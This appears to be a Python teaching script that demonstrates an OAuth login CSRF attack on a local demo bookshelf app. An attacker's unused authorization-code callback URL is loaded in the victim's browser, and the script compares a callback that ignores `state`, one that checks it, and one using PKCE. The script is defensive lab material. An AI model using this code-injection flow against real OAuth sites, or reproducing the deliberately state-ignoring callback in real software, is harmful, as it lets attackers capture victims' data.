"""Login CSRF: an attacker's authorization code injected into the victim's session.

Mallory starts a login at the bookshelf web app, signs in at the provider as herself, and
stops before her browser delivers the code. She gets Ada's browser to open that callback URL
(a link, an image tag). A callback that ignores `state` signs Ada in as Mallory, and what Ada
saves lands in Mallory's account. A callback that checks `state` refuses the foreign code.
"""

from __future__ import annotations

import secrets
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from labkit.serve import serve_wsgi_in_thread
from snippets.security.oauth_app.browser import Browser, name_server, params, show
from snippets.security.oauth_app.models import Client, Store
from snippets.security.oauth_app.provider import create_provider
from snippets.security.oauth_app.webclient import (
    Settings,
    create_webclient,
    finish_login,
    finish_login_vulnerable,
)

Finish = Callable[[Settings, dict[str, Any], str], dict]

DEPENDS = ("oauth_app/",)


@dataclass
class Outcome:
    """Whose account Ada's session ended up in, and where her note went."""

    callback_status: int
    signed_in_as: str | None
    mallory_books: list[str]


def attack(finish: Finish, use_pkce: bool = False) -> Outcome:
    """Run the login CSRF against a bookshelf app whose callback uses `finish`."""
    store = Store()
    store.add_user("ada", books=["Kindred"])
    mallory_password = store.add_user("mallory", books=["Dune"])
    settings = Settings(provider="", client_id="shelf-web", secret=secrets.token_urlsafe(24),
                        use_pkce=use_pkce)
    with serve_wsgi_in_thread(create_provider(store)) as provider, \
            serve_wsgi_in_thread(create_webclient(settings, finish)) as app:
        name_server(provider, "provider")
        name_server(app, "app")
        settings.provider, settings.base = provider, app
        store.add_client(Client(client_id="shelf-web", secret=settings.secret,
                                scope="shelf:read shelf:write", redirect_uris=[f"{app}/callback"]))
        # --8<-- [start:mallory]
        mallory = Browser()
        mallory.login(provider, "mallory", mallory_password)
        to_provider = mallory.get(f"{app}/login").headers["location"]
        trap = mallory.consent(to_provider).headers["location"]  # she does not follow it
        print("Mallory's unused callback URL:", show(trap, params(trap).values()))
        # --8<-- [end:mallory]
        # --8<-- [start:ada]
        ada = Browser()  # Ada opens Mallory's page; it loads the trap URL
        landed = ada.get(trap)
        why = landed.json()["error"] if landed.status_code == 400 else landed.headers["location"]
        print(f"Ada's browser loads it -> {landed.status_code} {why}")
        mine = ada.get(f"{app}/shelf")
        signed_in_as = mine.json().get("user")
        print(f"Ada opens her shelf -> {mine.status_code}", mine.json())
        if mine.status_code == 200:
            ada.http.post(f"{app}/shelf", data={"title": "Ada's private reading notes"})
        print("Mallory's account now holds:", store.shelves["mallory"])
        # --8<-- [end:ada]
        mallory.close()
        ada.close()
    return Outcome(landed.status_code, signed_in_as, list(store.shelves["mallory"]))


def main() -> None:
    """The attack on a callback that ignores state, then on one that checks it."""
    # --8<-- [start:both]
    print("Callback ignores state (no PKCE either):")
    attack(finish_login_vulnerable)
    print()
    print("Callback checks state:")
    attack(finish_login)
    print()
    print("Callback ignores state, but the app uses PKCE:")
    attack(finish_login_vulnerable, use_pkce=True)
    # --8<-- [end:both]


if __name__ == "__main__":
    main()
